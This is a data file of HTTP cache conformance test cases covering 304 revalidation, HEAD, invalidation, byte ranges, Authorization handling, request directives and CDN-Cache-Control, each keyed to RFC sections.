case a 304 with Content-Length has no content (9112, 6.3)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a"
= miss
>
< 304 | Cache-Control: max-age=100 | Age: 200 | ETag: "a" | Content-Length: 500
= validated
>
= validated
case what Connection names in a 304 is not taken over (3.2)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a" | X-Hop: 1
= miss
>
< 304 | Cache-Control: max-age=100 | ETag: "a" | Connection: X-Hop | X-Hop: 2 | Keep-Alive: timeout=1
= validated
>
= hit | X-Hop: 1 | -Keep-Alive
case the lifetime of the 304 counts (4.3.4)
>
< Cache-Control: max-age=1 | ETag: "a"
= miss
~ 2.1
>
< 304 | Cache-Control: max-age=100 | ETag: "a"
= validated
~ 2.1
>
= hit
case without a lifetime of its own the old one begins anew (4.3.4)
>
< Cache-Control: max-age=3 | ETag: "a"
= miss
~ 3.1
>
< 304 | ETag: "a"
= validated
>
= hit | Age: 0..2
case an Age of the 304 counts (4.2.3)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a"
= miss
>
< 304 | Cache-Control: max-age=100 | ETag: "a" | Age: 50
= validated
>
= hit | Age: 50..53
case a Date of the 304 replaces the old one (4.3.4)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a" | Date: {-300}
= miss
>
< 304 | Cache-Control: max-age=100 | ETag: "a" | Date: {-10}
= validated
>
= hit | Date: {-10} | Age: 10..13
case an Age that is not in the 304 is not kept (4.3.4)
>
< Cache-Control: max-age=100 | Age: 150 | Date: {-150} | ETag: "a"
= miss
>
< 304 | ETag: "a"
= validated
>
= hit | Age: 0..2
case validated by the date (4.3.4)
>
< Cache-Control: max-age=100 | Age: 200 | Last-Modified: {-1000}
= miss
>
< 304 | Cache-Control: max-age=100 | X-New: 1
= validated
>
= hit | X-New: 1 | Last-Modified: {-1000}
case a weak tag in a 304 (4.3.4)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: W/"a"
= miss
>
< 304 | Cache-Control: max-age=100 | ETag: W/"a"
= validated
>
= hit
case no-cache in a 304 holds from now on (3.2)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a"
= miss
>
< 304 | Cache-Control: no-cache, max-age=100 | ETag: "a"
= validated
>
= validated
case a 304 of one variant leaves the other (4.3.4)
> | X-A: 1
< Cache-Control: max-age=100 | Age: 200 | Vary: X-A | ETag: "a"
= miss
> | X-A: 2
< Cache-Control: max-age=100 | Age: 200 | Vary: X-A | ETag: "b"
= asked
> | X-A: 1
< 304 | Cache-Control: max-age=100 | ETag: "a" | X-New: 1
= validated
> | X-A: 1
= hit | X-New: 1
> | X-A: 2
< Cache-Control: max-age=100 | Vary: X-A | ETag: "c"
= asked
# ---- HEAD (9111, 4.3.5; 9110, 9.3.2) ----
case HEAD is answered from what GET stored (4)
>
< Cache-Control: max-age=100 | ETag: "a" | X-A: 1 | body=0123456789
= miss
> HEAD
= hit | Content-Length: 10 | ETag: "a" | X-A: 1
>
= hit | body=0123456789
case HEAD of what is stale goes to the origin (4)
>
< Cache-Control: max-age=100 | Age: 200
= miss
> HEAD
= asked
case HEAD that agrees leaves or updates what is stored (4.3.5)
>
< Cache-Control: max-age=100 | ETag: "a" | X-A: 1 | body=0123456789
= miss
> HEAD | Cache-Control: no-cache
< Cache-Control: max-age=100 | ETag: "a" | X-A: 2 | body=0123456789
= any | 200
>
< Cache-Control: max-age=100 | ETag: "a" | X-A: 2 | body=0123456789
= maybe | X-A: 2
case HEAD of another tag makes what is stored stale (4.3.5)
>
< Cache-Control: max-age=100 | ETag: "a"
= miss
> HEAD | Cache-Control: no-cache
< Cache-Control: max-age=100 | ETag: "b"
= any | 200 | ETag: "b"
>
= any | 200 | ETag: "b"
case HEAD of another date makes what is stored stale (4.3.5)
>
< Cache-Control: max-age=100 | Last-Modified: {-1000}
= miss
> HEAD | Cache-Control: no-cache
< Cache-Control: max-age=100 | Last-Modified: {-500}
= any | 200
>
= any | 200 | Last-Modified: {-500}
case HEAD of another length makes what is stored stale (4.3.5)
>
< Cache-Control: max-age=100 | body=0123456789
= miss
> HEAD | Cache-Control: no-cache
< Cache-Control: max-age=100 | body=01234
= any | 200
>
< Cache-Control: max-age=100 | body=01234
= any | 200 | body=01234
case HEAD has no content whatever is stored (9110, 9.3.2)
>
< Cache-Control: max-age=100 | ETag: "a" | Age: 200
= miss
> HEAD
< 304 | Cache-Control: max-age=100 | ETag: "a"
= any | 200
>
= any | 200

:group invalidation
# ---- invalidation (9111, 4.4) ----
case POST (4.4)
>
< Cache-Control: max-age=100
= miss
> POST | body=x
< 200
= asked
>
= asked
case PUT (4.4)
>
< Cache-Control: max-age=100
= miss
> PUT | body=x
< 204
= asked
>
< 200
= asked
case DELETE (4.4)
>
< Cache-Control: max-age=100
= miss
> DELETE
< 200
= asked
>
= asked
case PATCH (4.4)
>
< Cache-Control: max-age=100
= miss
> PATCH | body=x
< 200
= asked
>
= asked
case an unknown method (4.4)
>
< Cache-Control: max-age=100
= miss
> FOO
< 200
= asked
>
= asked
case another unknown method (4.4)
>
< Cache-Control: max-age=100
= miss
> M-SEARCH
< 200
= asked
>
= asked
case 201 (4.4)
>
< Cache-Control: max-age=100
= miss
> POST | body=x
< 201
= asked
>
< 200
= asked
case 302 (4.4)
>
< Cache-Control: max-age=100
= miss
> POST | body=x
< 302 | Location: /elsewhere
= asked
>
< 200
= asked
case 303 (4.4)
>
< Cache-Control: max-age=100
= miss
> POST | body=x
< 303 | Location: /elsewhere
= asked
>
< 200
= asked
case not 400 (4.4)
>
< Cache-Control: max-age=100
= miss
> POST | body=x
< 400
= asked
>
= hit
case not 404 of DELETE (4.4)
>
< Cache-Control: max-age=100
= miss
> DELETE
< 404
= asked
>
= hit
case not 500 (4.4)
>
< Cache-Control: max-age=100
= miss
> PUT | body=x
< 500
= asked
>
= hit
case not 503 of an unknown method (4.4)
>
< Cache-Control: max-age=100
= miss
> FOO
< 503
= asked
>
= hit
case not OPTIONS (4.4)
>
< Cache-Control: max-age=100
= miss
> OPTIONS
< 200
= asked
>
= hit
case not another URL (4.4)
> /a
< Cache-Control: max-age=100
= miss
> POST /b | body=x
< 200
= asked
> /a
= hit
case not another query (4.4)
> ?a
< Cache-Control: max-age=100
= miss
> POST ?b | body=x
< 200
= asked
> ?a
= hit
case in the comparing form of the path (4.4)
> /~a
< Cache-Control: max-age=100
= miss
> POST /%7ea | body=x
< 200
= asked
> /~a
= asked
case Location (4.4)
> /b
< Cache-Control: max-age=100
= miss
> POST /a | body=x
< 201 | Location: {path}/b
= asked
> /b
< 200
= asked
case Location as a whole URL (4.4)
> /b
< Cache-Control: max-age=100
= miss
> POST /a | body=x
< 201 | Location: {url}/b
= asked
> /b
< 200
= asked
case Location relative to the URL (4.4)
> /b
< Cache-Control: max-age=100
= miss
> POST /a | body=x
< 201 | Location: b
= asked
> /b
< 200
= asked
case Location with a query and a fragment (4.4)
> /b?c
< Cache-Control: max-age=100
= miss
> POST /a | body=x
< 201 | Location: {path}/b?c#d
= asked
> /b?c
< 200
= asked
case Location with dot segments (4.4; 3986, 5.2)
> /b
< Cache-Control: max-age=100
= miss
> POST /a/a | body=x
< 201 | Location: ../b
= asked
> /b
< 200
= asked
case Location with a dot segment last (4.4; 3986, 5.2)
> /a/
< Cache-Control: max-age=100
= miss
> POST /a/b | body=x
< 201 | Location: .
= asked
> /a/
< 200
= asked
case Location with dot segments of a whole path (4.4; 3986, 5.2)
> /b
< Cache-Control: max-age=100
= miss
> POST /a | body=x
< 201 | Location: {path}/./c/../x/../b
= asked
> /b
< 200
= asked
case Location beyond the top (4.4; 3986, 5.2)
> /b
< Cache-Control: max-age=100
= miss
> POST /a | body=x
< 201 | Location: ../../../..{path}/b
= asked
> /b
< 200
= asked
case Location of another query (4.4; 3986, 5.2)
> /a?b
< Cache-Control: max-age=100
= miss
> POST /a?c | body=x
< 201 | Location: ?b
= asked
> /a?b
< 200
= asked
case Location that is only a fragment (4.4; 3986, 5.2)
> /a?b
< Cache-Control: max-age=100
= miss
> POST /a?b | body=x
< 201 | Location: #c
= asked
> /a?b
< 200
= asked
case Location without a scheme (4.4; 3986, 5.2)
> /b
< Cache-Control: max-age=100
= miss
> POST /a | body=x
< 201 | Location: //{host}{path}/b
= asked
> /b
< 200
= asked
case Location in the comparing form of the path (4.4; 3986, 5.2)
> /~b
< Cache-Control: max-age=100
= miss
> POST /a | body=x
< 201 | Location: {path}/%7eb
= asked
> /~b
< 200
= asked
case not Location relative to the directory below (4.4; 3986, 5.2)
> /b
< Cache-Control: max-age=100
= miss
> POST /a/ | body=x
< 201 | Location: b
= asked
> /b
< 200
= hit
case not Location of another query (4.4; 3986, 5.2)
> /b?c
< Cache-Control: max-age=100
= miss
> POST /a | body=x
< 201 | Location: b?d
= asked
> /b?c
< 200
= hit
case Location of a host in capitals and its usual port (4.4; 9110, 4.2.3)
only reverse
> /b
< Cache-Control: max-age=100
= miss
> POST /a | body=x
< 201 | Location: HTTP://Cache.EXAMPLE:80{path}/b
= asked
> /b
< 200
= asked
case Content-Location (4.4)
> /b
< Cache-Control: max-age=100
= miss
> PUT /a | body=x
< 200 | Content-Location: {path}/b
= asked
> /b
= asked
case Content-Location as a whole URL (4.4)
> /b
< Cache-Control: max-age=100
= miss
> DELETE /a
< 200 | Content-Location: {url}/b
= asked
> /b
= asked
case Location and Content-Location of an unknown method (4.4)
> /b
< Cache-Control: max-age=100
= miss
> /c
= asked
> FOO /a
< 200 | Location: {path}/b | Content-Location: {path}/c
= asked
> /b
= asked
> /c
= asked
case not Location of an error (4.4)
> /b
< Cache-Control: max-age=100
= miss
> POST /a | body=x
< 400 | Location: {path}/b | Content-Location: {path}/b
= asked
> /b
= hit
case not Location of GET (4.4)
> /b
< Cache-Control: max-age=100
= miss
> /a
< 302 | Location: {path}/b | Content-Location: {path}/b
= asked
> /b
= hit
case not Location of another host (4.4)
only reverse
> /b | Host: other.example
< Cache-Control: max-age=100
= miss
> POST /a | body=x
< 201 | Location: http://other.example{path}/b | Content-Location: http://other.example{path}/b
= asked
> /b | Host: other.example
= hit
case not Location of another port (4.4)
only reverse
> /b | Host: cache.example:81
< Cache-Control: max-age=100
= miss
> POST /a | body=x
< 201 | Location: http://cache.example:81{path}/b
= asked
> /b | Host: cache.example:81
= hit
case not Location of another scheme (4.4)
only reverse
> /b
< Cache-Control: max-age=100
= miss
> POST /a | body=x
< 201 | Location: https://cache.example{path}/b
= asked
> /b
= hit
case all variants (4.4)
> | X-A: 1
< Cache-Control: max-age=100 | Vary: X-A
= miss
> | X-A: 2
= asked
> POST | body=x
< 200
= asked
> | X-A: 1
= asked
> | X-A: 2
= asked
case what is stored afterwards is used (4.4)
>
< Cache-Control: max-age=100
= miss
> POST | body=x
< 200
= asked
>
< Cache-Control: max-age=100
= asked
>
= hit 3

:group ranges
# ---- ranges out of a whole entry (9111, 3.3; 9110, 14) ----
case first-last (9110, 14.1.2)
>
< Cache-Control: max-age=100 | ETag: "a" | X-A: 1 | Content-Type: text/x | body=0123456789
= miss
> | Range: bytes=2-4
= hit | 206 | body=234 | Content-Range: bytes 2-4/10 | Content-Length: 3 | ETag: "a" | X-A: 1 | Content-Type: text/x | Cache-Control: max-age=100 | Date ~ GMT
> | Range: bytes=0-0
= hit | 206 | body=0 | Content-Range: bytes 0-0/10
> | Range: bytes=9-9
= hit | 206 | body=9 | Content-Range: bytes 9-9/10
> | Range: bytes=0-9
= hit | 206 | body=0123456789 | Content-Range: bytes 0-9/10
case first- (9110, 14.1.2)
>
< Cache-Control: max-age=100 | body=0123456789
= miss
> | Range: bytes=5-
= hit | 206 | body=56789 | Content-Range: bytes 5-9/10
> | Range: bytes=0-
= hit | 206 | body=0123456789 | Content-Range: bytes 0-9/10
case -suffix (9110, 14.1.2)
>
< Cache-Control: max-age=100 | body=0123456789
= miss
> | Range: bytes=-3
= hit | 206 | body=789 | Content-Range: bytes 7-9/10
> | Range: bytes=-100
= hit | 206 | body=0123456789 | Content-Range: bytes 0-9/10
case a last beyond the end (9110, 14.1.2)
>
< Cache-Control: max-age=100 | body=0123456789
= miss
> | Range: bytes=5-100
= hit | 206 | body=56789 | Content-Range: bytes 5-9/10
> | Range: bytes=5-99999999999999999999999
= hit | 200,206
case a first beyond the end (9110, 15.5.17)
>
< Cache-Control: max-age=100 | body=0123456789
= miss
> | Range: bytes=10-
= hit | 416 | Content-Range: bytes */10
> | Range: bytes=100-200
= hit | 416 | Content-Range: bytes */10
> | Range: bytes=-0
= hit | 416 | Content-Range: bytes */10
>
= hit | body=0123456789
case the unit's case does not count (9110, 14.1)
>
< Cache-Control: max-age=100 | body=0123456789
= miss
> | Range: BYTES=2-4
= hit | 206 | body=234
case a range that is none is ignored (9110, 14.2)
>
< Cache-Control: max-age=100 | body=0123456789
= miss
> | Range: bytes=5-2
= hit | 200 | body=0123456789
> | Range: bytes=a-b
= hit | 200 | body=0123456789
> | Range: bytes=
= hit | 200 | body=0123456789
> | Range: lines=1-2
= hit | 200 | body=0123456789
> | Range: 1-2
= hit | 200 | body=0123456789
> | Range: bytes=+1-2
= hit | 200 | body=0123456789
case several ranges get the whole (9110, 14.2)
>
< Cache-Control: max-age=100 | body=0123456789
= miss
> | Range: bytes=0-1,4-5
= hit | 200 | body=0123456789
case a range of HEAD is ignored (9110, 14.2)
>
< Cache-Control: max-age=100 | body=0123456789
= miss
> HEAD | Range: bytes=0-1
= hit | 200 | Content-Length: 10
case a range of an error is ignored (9110, 14.2)
>
< 404 | Cache-Control: max-age=100 | body=0123456789
= miss
> | Range: bytes=0-1
= hit | 404 | body=0123456789
case a range out of what came chunked (9110, 14.2)
>
< Cache-Control: max-age=100 | chunked | body=0123456789
= miss
> | Range: bytes=2-4
= hit | 206 | body=234 | Content-Range: bytes 2-4/10
case a range out of nothing (9110, 15.5.17)
>
< Cache-Control: max-age=100 | body=
= miss
> | Range: bytes=0-1
= hit | 200,416
case If-Range with the tag stored (9110, 13.1.5)
>
< Cache-Control: max-age=100 | ETag: "a" | body=0123456789
= miss
> | Range: bytes=2-4 | If-Range: "a"
= hit | 206 | body=234
case If-Range with another tag (9110, 13.1.5)
>
< Cache-Control: max-age=100 | ETag: "a" | body=0123456789
= miss
> | Range: bytes=2-4 | If-Range: "b"
= hit | 200 | body=0123456789
case If-Range compares strongly (9110, 13.1.5)
>
< Cache-Control: max-age=100 | ETag: W/"a" | body=0123456789
= miss
> | Range: bytes=2-4 | If-Range: W/"a"
= hit | 200 | body=0123456789
> | Range: bytes=2-4 | If-Range: "a"
= hit | 200 | body=0123456789
case If-Range with the date stored (9110, 13.1.5)
>
< Cache-Control: max-age=100 | Last-Modified: {-100000} | body=0123456789
= miss
> | Range: bytes=2-4 | If-Range: {-100000}
= hit | 206 | body=234
case If-Range with another date (9110, 13.1.5)
>
< Cache-Control: max-age=100 | Last-Modified: {-100000} | body=0123456789
= miss
> | Range: bytes=2-4 | If-Range: {-50000}
= hit | 200 | body=0123456789
case If-Range without Range (9110, 13.1.5)
>
< Cache-Control: max-age=100 | ETag: "a" | body=0123456789
= miss
> | If-Range: "a"
= hit | 200 | body=0123456789
case If-None-Match before Range (9110, 13.2.2)
>
< Cache-Control: max-age=100 | ETag: "a" | body=0123456789
= miss
> | Range: bytes=2-4 | If-None-Match: "a"
= hit | 304
> | Range: bytes=2-4 | If-None-Match: "b"
= hit | 206 | body=234
case a range after validation (4.3.3)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a" | body=0123456789
= miss
> | Range: bytes=2-4
< 304 | Cache-Control: max-age=100 | ETag: "a"
= validated | 206 | body=234 | Content-Range: bytes 2-4/10
>
= hit | body=0123456789
# ---- parts received (9111, 3.3; 3.4) ----
case a part is passed on and never answers a whole request (3.3)
> | Range: bytes=0-4
< 206 | Cache-Control: max-age=100 | ETag: "a" | Content-Range: bytes 0-4/10 | body=01234
= any | 206 | body=01234 | Content-Range: bytes 0-4/10
>
< Cache-Control: max-age=100 | ETag: "a" | body=0123456789
= any | 200 | body=0123456789
case a part never answers another part (3.3)
> | Range: bytes=0-4
< 206 | Cache-Control: max-age=100 | ETag: "a" | Content-Range: bytes 0-4/10 | body=01234
= any | 206
> | Range: bytes=5-9
< 206 | Cache-Control: max-age=100 | ETag: "a" | Content-Range: bytes 5-9/10 | body=56789
= any | 206 | body=56789 | Content-Range: bytes 5-9/10
case a part is cut out of a part (3.3)
> | Range: bytes=0-4
< Cache-Control: max-age=100 | ETag: "a" | ranges | body=0123456789
= any | 206 | body=01234
> | Range: bytes=1-3
= hit | 206 | body=123 | Content-Range: bytes 1-3/10 | ETag: "a"
case a suffix is cut out of a part that reaches it (3.3)
> | Range: bytes=5-9
< Cache-Control: max-age=100 | ETag: "a" | ranges | body=0123456789
= any | 206 | body=56789
> | Range: bytes=-2
= hit | 206 | body=89 | Content-Range: bytes 8-9/10
case a part is made whole by asking for the rest (3.3; 3.4)
> | Range: bytes=0-4
< Cache-Control: max-age=100 | ETag: "a" | ranges | body=0123456789
= any | 206 | body=01234
>
= any | 200 | body=0123456789 | -Content-Range | @Range: bytes=5- | @If-Range: "a"
>
= hit | 200 | body=0123456789 | Content-Length: 10
case parts are put together where the tag is the same (3.4)
> | Range: bytes=0-4
< Cache-Control: max-age=100 | ETag: "a" | ranges | body=0123456789
= any | 206 | body=01234
> | Range: bytes=5-9
= any | 206 | body=56789
>
= any | 200 | body=0123456789 | -Content-Range
case a part is not made whole of another version (3.4)
> | Range: bytes=0-4
< Cache-Control: max-age=100 | ETag: "a" | ranges | body=0123456789
= any | 206 | body=01234
>
< Cache-Control: max-age=100 | ETag: "b" | ranges | body=abcdefghij
= any | 200 | body=abcdefghij
case nor of another length (3.4)
> | Range: bytes=0-4
< Cache-Control: max-age=100 | ETag: "a" | ranges | body=0123456789
= any | 206 | body=01234
>
< Cache-Control: max-age=100 | ETag: "a" | ranges | body=0123456789ab
= any | 200,502 | body=0123456789ab
case a gap is no part (3.3)
> | Range: bytes=0-2
< Cache-Control: max-age=100 | ETag: "a" | ranges | body=0123456789
= any | 206 | body=012
> | Range: bytes=6-8
= any | 206 | body=678
> | Range: bytes=1-7
= any | 206 | body=1234567 | Content-Range: bytes 1-7/10
>
= any | 200 | body=0123456789
case a stale part is not used (3.3; 4.2)
> | Range: bytes=0-4
< Cache-Control: max-age=100 | Age: 200 | ETag: "a" | ranges | body=0123456789
= any | 206 | body=01234
> | Range: bytes=0-4
< Cache-Control: max-age=100 | ETag: "b" | ranges | body=abcdefghij
= any | 206 | body=abcde
case a part of everything, if it is kept (3.3)
> | Range: bytes=0-
< 206 | Cache-Control: max-age=100 | ETag: "a" | Content-Range: bytes 0-9/10 | body=0123456789
= any | 206 | body=0123456789
>
< Cache-Control: max-age=100 | ETag: "a" | body=0123456789
= any | 200 | body=0123456789 | -Content-Range
case parts of different versions are not put together (3.4)
> | Range: bytes=0-4
< 206 | Cache-Control: max-age=100 | ETag: "a" | Content-Range: bytes 0-4/10 | body=01234
= any | 206
> | Range: bytes=5-9
< 206 | Cache-Control: max-age=100 | ETag: "b" | Content-Range: bytes 5-9/10 | body=fghij
= any | 206 | body=fghij
>
< Cache-Control: max-age=100 | ETag: "b" | body=abcdefghij
= any | 200 | body=abcdefghij
case parts with weak tags are not put together (3.4)
> | Range: bytes=0-4
< 206 | Cache-Control: max-age=100 | ETag: W/"a" | Content-Range: bytes 0-4/10 | body=01234
= any | 206
> | Range: bytes=5-9
< 206 | Cache-Control: max-age=100 | ETag: W/"a" | Content-Range: bytes 5-9/10 | body=56789
= any | 206
>
< Cache-Control: max-age=100 | ETag: W/"a" | body=abcdefghij
= asked | 200 | body=abcdefghij
case a part that is not what Content-Range says is not kept (3.3)
> | Range: bytes=0-4
< 206 | Cache-Control: max-age=100 | ETag: "a" | Content-Range: bytes 0-9/10 | body=01234
= any | 206,502
> | Range: bytes=0-4
< 206 | Cache-Control: max-age=100 | ETag: "a" | Content-Range: bytes 0-4/10 | body=abcde
= asked | 206 | body=abcde
case a part without Content-Range is not kept (3.3)
> | Range: bytes=0-4
< 206 | Cache-Control: max-age=100 | ETag: "a" | body=01234
= any | 206,502
> | Range: bytes=0-4
< 206 | Cache-Control: max-age=100 | ETag: "a" | Content-Range: bytes 0-4/10 | body=abcde
= asked | 206 | body=abcde
case a part in answer to no Range is not kept (3.3)
>
< 206 | Cache-Control: max-age=100 | ETag: "a" | Content-Range: bytes 0-4/10 | body=01234
= any | 206,502
>
< Cache-Control: max-age=100 | body=0123456789
= asked | 200 | body=0123456789
case a multipart answer is not kept (3.3)
> | Range: bytes=0-1,4-5
< 206 | Cache-Control: max-age=100 | Content-Type: multipart/byteranges; boundary=x | body=--x--
= any | 200,206
>
< Cache-Control: max-age=100 | body=0123456789
= asked | 200 | body=0123456789
case a whole answer to a Range is kept (3.3)
> | Range: bytes=2-4
< Cache-Control: max-age=100 | body=0123456789
= any | 200,206
>
= hit | body=0123456789
case a 416 is not kept (3)
> | Range: bytes=100-200
< 416 | Content-Range: bytes */10 | Last-Modified: {-1000000}
= any | 416
>
< Cache-Control: max-age=100 | body=0123456789
= asked | 200 | body=0123456789

:group authorization
# ---- Authorization (9111, 3.5) ----
case not stored (3.5)
> | Authorization: Basic eDp5
< Cache-Control: max-age=100
= miss
>
= miss
case nor for the same user (3.5)
> | Authorization: Basic eDp5
< Cache-Control: max-age=100
= miss
> | Authorization: Basic eDp5
= asked
case nor by Expires (3.5)
> | Authorization: Basic eDp5
< Expires: {+100}
= miss
>
= miss
case nor by heuristic (3.5)
> | Authorization: Basic eDp5
< Last-Modified: {-1000000}
= miss
>
= miss
case nor with proxy-revalidate (3.5)
> | Authorization: Basic eDp5
< Cache-Control: max-age=100, proxy-revalidate
= miss
>
= miss
case public allows it (3.5; 5.2.2.9)
> | Authorization: Basic eDp5
< Cache-Control: public, max-age=100
= miss
>
= hit
case must-revalidate allows it (3.5; 5.2.2.2)
> | Authorization: Basic eDp5
< Cache-Control: must-revalidate, max-age=100
= miss
>
= hit
case s-maxage allows it (3.5; 5.2.2.10)
> | Authorization: Basic eDp5
< Cache-Control: s-maxage=100
= miss
> | Authorization: Basic YTpi
= hit
case s-maxage=0 stores and validates (3.5)
> | Authorization: Basic eDp5
< Cache-Control: s-maxage=0 | ETag: "a"
= miss
> | Authorization: Basic YTpi
= asked
case public does not override private (3.5)
> | Authorization: Basic eDp5
< Cache-Control: public, private, max-age=100
= miss
>
= miss
case what anybody stored is not reused for who says who he is (3.5)
>
< Cache-Control: max-age=100
= miss
> | Authorization: Basic eDp5
= asked
case unless public says so (3.5)
>
< Cache-Control: public, max-age=100
= miss
> | Authorization: Basic eDp5
= hit
case unless must-revalidate says so (3.5)
>
< Cache-Control: must-revalidate, max-age=100
= miss
> | Authorization: Basic eDp5
= hit
case unless s-maxage says so (3.5)
>
< Cache-Control: s-maxage=100
= miss
> | Authorization: Basic eDp5
= hit
case what one user was told does not replace what all get (3.5)
>
< Cache-Control: max-age=100
= miss
> | Authorization: Basic eDp5
= asked
>
= hit

:group requests
# ---- directives of requests (9111, 5.2.1) ----
case max-age beyond the age (5.2.1.1)
>
< Cache-Control: max-age=100 | Age: 50
= miss
> | Cache-Control: max-age=60
= hit
case max-age below the age (5.2.1.1)
>
< Cache-Control: max-age=100 | Age: 50
= miss
> | Cache-Control: max-age=40
= asked
case max-age=0 (5.2.1.1)
>
< Cache-Control: max-age=100 | ETag: "a"
= miss
> | Cache-Control: max-age=0
= asked | 200,304
case min-fresh within (5.2.1.3)
>
< Cache-Control: max-age=100 | Age: 50
= miss
> | Cache-Control: min-fresh=40
= hit
case min-fresh beyond (5.2.1.3)
>
< Cache-Control: max-age=100 | Age: 50
= miss
> | Cache-Control: min-fresh=60
= asked
case max-stale within (5.2.1.2)
>
< Cache-Control: max-age=10 | Age: 9
= miss
~ 2.1
> | Cache-Control: max-stale=100
= hit | Age: 11..14
case max-stale beyond (5.2.1.2)
>
< Cache-Control: max-age=10 | Age: 9
= miss
~ 3.1
> | Cache-Control: max-stale=1
= asked
case max-stale without a value (5.2.1.2)
>
< Cache-Control: max-age=10 | Age: 9
= miss
~ 2.1
> | Cache-Control: max-stale
= hit
case max-stale of what must be revalidated (5.2.2.2)
>
< Cache-Control: max-age=10, must-revalidate | Age: 9
= miss
~ 2.1
> | Cache-Control: max-stale=100
= asked
case max-stale of what proxies must revalidate (5.2.2.8)
>
< Cache-Control: max-age=10, proxy-revalidate | Age: 9
= miss
~ 2.1
> | Cache-Control: max-stale
= asked
case max-stale of s-maxage (5.2.2.10)
>
< Cache-Control: s-maxage=10 | Age: 9
= miss
~ 2.1
> | Cache-Control: max-stale=100
= asked
case max-stale of no-cache (5.2.2.4)
>
< Cache-Control: no-cache, max-age=100
= miss
> | Cache-Control: max-stale=100
= asked
case no-cache (5.2.1.4)
>
< Cache-Control: max-age=100
= miss
> | Cache-Control: no-cache
= asked
>
= hit 2
case NO-CACHE (5.2)
>
< Cache-Control: max-age=100
= miss
> | Cache-Control: foo="bar, baz", No-Cache
= asked
case what is quoted is no directive (5.2)
>
< Cache-Control: max-age=100
= miss
> | Cache-Control: foo="no-cache, max-age=0"
= hit
case directives on two lines (5.2)
>
< Cache-Control: max-age=100
= miss
> | Cache-Control: max-age=50 | Cache-Control: no-cache
= asked
case no-store does not touch what is stored (5.2.1.5)
>
< Cache-Control: max-age=100
= miss
> | Cache-Control: no-store
= maybe
>
= hit
case only-if-cached where it is (5.2.1.7)
>
< Cache-Control: max-age=100
= miss
> | Cache-Control: only-if-cached
= hit
case only-if-cached where it is not (5.2.1.7)
> | Cache-Control: only-if-cached
= local | 504
case only-if-cached where it is stale (5.2.1.7)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a"
= miss
> | Cache-Control: only-if-cached
= local | 504
case only-if-cached and no-cache (5.2.1.7)
>
< Cache-Control: max-age=100
= miss
> | Cache-Control: only-if-cached, no-cache
= local | 504
case Pragma alone is no-cache (5.4)
>
< Cache-Control: max-age=100
= miss
> | Pragma: no-cache
= asked
case Pragma beside Cache-Control is nothing (5.4)
>
< Cache-Control: max-age=100
= miss
> | Pragma: no-cache | Cache-Control: max-age=50
= hit
case Pragma in an answer is nothing (5.4)
>
< Cache-Control: max-age=100 | Pragma: no-cache
= miss
>
= hit
case s-maxage in a request is nothing (5.2.1)
>
< Cache-Control: max-age=100 | Age: 50
= miss
> | Cache-Control: s-maxage=0, private, must-revalidate
= hit
case a request's max-age does not make fresh (5.2.1.1)
>
< Cache-Control: max-age=100 | Age: 200
= miss
> | Cache-Control: max-age=1000
= asked
case directives go on to the origin (5.2)
> | Cache-Control: no-cache, foo="a, b", max-stale=5
< Cache-Control: max-age=100
= miss | @Cache-Control: no-cache, foo="a, b", max-stale=5
case directives go on to the client (5.2)
>
< Cache-Control: max-age=100, no-transform, foo="a, b"
= miss | Cache-Control: max-age=100, no-transform, foo="a, b"
>
= hit | Cache-Control: max-age=100, no-transform, foo="a, b"

:group targeted
# ---- CDN-Cache-Control (9213) ----
case it makes fresh (9213, 2.2)
only reverse
>
< CDN-Cache-Control: max-age=100
= miss
>
= hit
case it replaces Cache-Control that is short (9213, 2.2)
only reverse
>
< CDN-Cache-Control: max-age=100 | Cache-Control: max-age=1 | Age: 10
= miss
>
= hit
case it replaces Cache-Control that forbids (9213, 2.2)
only reverse
>
< CDN-Cache-Control: max-age=100 | Cache-Control: no-store, private
= miss
>
= hit
case it replaces s-maxage (9213, 2.2)
only reverse
>
< CDN-Cache-Control: max-age=0 | Cache-Control: s-maxage=100
= miss
>
= asked
case it replaces Expires (9213, 2.2)
only reverse
>
< CDN-Cache-Control: max-age=100 | Expires: {-100}
= miss
>
= hit
case it forbids (9213, 2.2)
only reverse
>
< CDN-Cache-Control: no-store | Cache-Control: max-age=100
= miss
>
= miss
case private of it (9213, 2.2)
only reverse
>
< CDN-Cache-Control: private | Cache-Control: max-age=100
= miss
>
= miss
case no-cache of it (9213, 2.2)
only reverse
>
< CDN-Cache-Control: no-cache | Cache-Control: max-age=100 | ETag: "a"
= miss
>
= validated
case what it does not say is not taken from Cache-Control (9213, 2.2)
only reverse
>
< CDN-Cache-Control: foo | Cache-Control: max-age=100
= miss
>
= asked
case an empty one is none (9213, 2.2)
only reverse
>
< CDN-Cache-Control: | Cache-Control: max-age=100
= miss
>
= hit
case parameters are skipped (9213, 2.1)
only reverse
>
< CDN-Cache-Control: max-age=100;a=b;c | Cache-Control: no-store
= miss
>
= hit
case the last of two members counts (8941, 3.2)
only reverse
>
< CDN-Cache-Control: max-age=0, max-age=100 | Cache-Control: no-store
= miss
>
= hit
case the last of two members counts, downwards (8941, 3.2)
only reverse
>
< CDN-Cache-Control: max-age=100, max-age=0 | Cache-Control: max-age=100
= miss
>
= asked
case lines are joined (8941, 4.2)
only reverse
>
< CDN-Cache-Control: max-age=100 | CDN-Cache-Control: no-store | Cache-Control: max-age=100
= miss
>
= miss
case unknown members of every type are skipped (8941)
only reverse
>
< CDN-Cache-Control: a=1.5, b="x, \"y\"", c=:YWJj:, d=(1 2 "3");e, f=?0, g=tok/en, max-age=100 | Cache-Control: no-store
= miss
>
= hit
case what cannot be parsed is ignored, and forbids nothing (9213, 2.1)
only reverse
>
< CDN-Cache-Control: no-store, max-age=0, &&& | Cache-Control: max-age=100
= miss
>
= hit
case what cannot be parsed is ignored, and allows nothing (9213, 2.1)
only reverse
>
< CDN-Cache-Control: max-age=100, &&& | Cache-Control: no-store
= miss
>
= miss
case a trailing comma cannot be parsed (8941, 4.2.2)
only reverse
>
< CDN-Cache-Control: max-age=100, | Cache-Control: no-store
= miss
>
= miss
case capitals cannot be parsed (8941, 3.1.2)
only reverse
>
< CDN-Cache-Control: Max-Age=100 | Cache-Control: no-store
= miss
>
= miss
